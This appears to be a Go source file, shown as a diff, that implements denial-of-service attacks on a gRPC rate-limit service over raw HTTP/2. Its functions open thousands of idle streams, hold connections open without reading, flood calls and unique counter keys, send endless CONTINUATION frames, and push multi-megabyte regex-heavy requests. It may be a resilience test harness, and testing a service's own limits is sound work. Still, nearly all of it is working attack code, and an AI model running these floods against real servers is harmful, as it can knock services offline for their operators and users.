@@ -1,0 +1,219 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	ratelimitv3 "github.com/envoyproxy/go-control-plane/envoy/service/ratelimit/v3"
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+	"google.golang.org/protobuf/proto"
+)
+
+// client sends HTTP/2 frames without a library that keeps to the rules.
+type client struct {
+	net.Conn
+	stream uint32
+	block  []byte // the header block of a call
+	out    bytes.Buffer
+	framer *http2.Framer // to out
+}
+
+// open connects. What the server sends is read and thrown away, unless mute.
+func open(ctx context.Context, at string, mute bool) (*client, error) {
+	var d net.Dialer
+	conn, err := d.DialContext(ctx, "tcp", at)
+	if err != nil {
+		return nil, err
+	}
+	if until, ok := ctx.Deadline(); ok {
+		_ = conn.SetDeadline(until)
+	}
+	c := &client{Conn: conn}
+	c.out.WriteString(http2.ClientPreface)
+	c.framer = http2.NewFramer(&c.out, nil)
+	c.framer.AllowIllegalWrites = true
+	_ = c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
+	_ = c.framer.WriteWindowUpdate(0, 1<<30)
+	var block bytes.Buffer
+	encoder := hpack.NewEncoder(&block)
+	for _, h := range [][2]string{
+		{":method", "POST"}, {":scheme", "http"}, {":path", ratelimitv3.RateLimitService_ShouldRateLimit_FullMethodName}, {":authority", "x"}, {"content-type", "application/grpc"},
+	} {
+		_ = encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1], Sensitive: true}) // not indexed: the block is sent again
+	}
+	c.block = block.Bytes()
+	if !mute {
+		go func() { _, _ = io.Copy(io.Discard, conn) }()
+	}
+	return c, c.flush()
+}
+
+func (c *client) flush() error {
+	_, err := c.out.WriteTo(c.Conn)
+	return err
+}
+
+// begin writes the headers of the next call into the buffer.
+func (c *client) begin() {
+	if c.stream == 0 {
+		c.stream = 1
+	} else {
+		c.stream += 2
+	}
+	_ = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: c.block, EndHeaders: true})
+}
+
+// send writes the message of the call into the buffer.
+func (c *client) send(message []byte) {
+	const most = 16 << 10 // of a frame
+	data := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
+	for len(data) > most {
+		_ = c.framer.WriteData(c.stream, false, data[:most])
+		data = data[most:]
+	}
+	_ = c.framer.WriteData(c.stream, true, data)
+}
+
+// several runs an attack on connections of its own, each opened anew when the server closes it, until ctx is done.
+func several(ctx context.Context, at string, n int, mute bool, do func(c *client) error) error {
+	var all sync.WaitGroup
+	for range n {
+		all.Go(func() {
+			for ctx.Err() == nil {
+				c, err := open(ctx, at, mute)
+				if err == nil {
+					for err == nil && ctx.Err() == nil && c.stream < 1<<30 {
+						if err = do(c); err == nil {
+							err = c.flush()
+						}
+					}
+					_ = c.Close()
+				}
+				wait(ctx, 10*time.Millisecond)
+			}
+		})
+	}
+	all.Wait()
+	return nil
+}
+
+// openStreams opens calls that never send a message, so many on each connection, and keeps them.
+func openStreams(ctx context.Context, at string, connections, calls int) error {
+	return several(ctx, at, connections, false, func(c *client) error {
+		if int(c.stream/2) >= calls {
+			wait(ctx, time.Second)
+			return nil
+		}
+		for range 500 {
+			c.begin()
+		}
+		return nil
+	})
+}
+
+func message(domain string, pairs ...string) []byte {
+	b, err := proto.Marshal(request(domain, pairs...))
+	if err != nil {
+		panic(err) // of a message that we made
+	}
+	return b
+}
+
+func neverRead(ctx context.Context, at string, _ bool) error {
+	m := message("attack", "key", "one")
+	return several(ctx, at, 1, true, func(c *client) error { return c.batch(m) })
+}
+
+func flood(ctx context.Context, at string, _ bool) error {
+	m := message("attack", "key", "one")
+	return several(ctx, at, 8, false, func(c *client) error { return c.batch(m) })
+}
+
+func (c *client) batch(message []byte) error {
+	for range 100 {
+		c.begin()
+		c.send(message)
+	}
+	return nil
+}
+
+// newKeys makes calls that each need a counter of their own.
+func newKeys(ctx context.Context, at string, _ bool) error {
+	var n atomic.Int64
+	return several(ctx, at, 8, false, func(c *client) error {
+		for range 20 {
+			c.begin()
+			c.send(message("attack", "key", fmt.Sprintf("%012d", n.Add(1))))
+		}
+		return nil
+	})
+}
+
+// idle opens connections that make no call, keeps them, and opens those anew that the server closes. They answer pings.
+func idle(ctx context.Context, at string, n int) error {
+	var all sync.WaitGroup
+	for range n {
+		all.Go(func() {
+			for ctx.Err() == nil {
+				if c, err := open(ctx, at, true); err == nil {
+					from := http2.NewFramer(nil, c.Conn)
+					for {
+						f, err := from.ReadFrame()
+						if err != nil {
+							break
+						}
+						if p, ok := f.(*http2.PingFrame); ok && !p.IsAck() {
+							_ = c.framer.WritePing(true, p.Data)
+							_ = c.flush()
+						}
+					}
+					_ = c.Close()
+				}
+				wait(ctx, time.Second)
+			}
+		})
+	}
+	all.Wait()
+	return nil
+}
+
+func continuation(ctx context.Context, at string, _ bool) error {
+	return several(ctx, at, 8, false, func(c *client) error {
+		if c.stream == 0 {
+			c.stream = 1
+			_ = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: c.block})
+		}
+		for range 1_000 {
+			_ = c.framer.WriteContinuation(c.stream, false, nil)
+		}
+		return nil
+	})
+}
+
+// regex sends calls of 3.8 MB, each with values of 8 KB that expressions look at.
+func regex(ctx context.Context, at string, _ bool) error {
+	value := strings.Repeat("/segment", 1024)
+	r := request("attack")
+	r.Descriptors = nil
+	for i := range 240 {
+		r.Descriptors = append(r.Descriptors, request("attack", "path", fmt.Sprint(value, i), "more", value).Descriptors...)
+	}
+	m, err := proto.Marshal(r)
+	if err != nil {
+		return fmt.Errorf("encode: %w", err)
+	}
+	return several(ctx, at, 1, false, func(c *client) error {
+		c.begin()
+		c.send(m)
+		return nil
+	})
+}
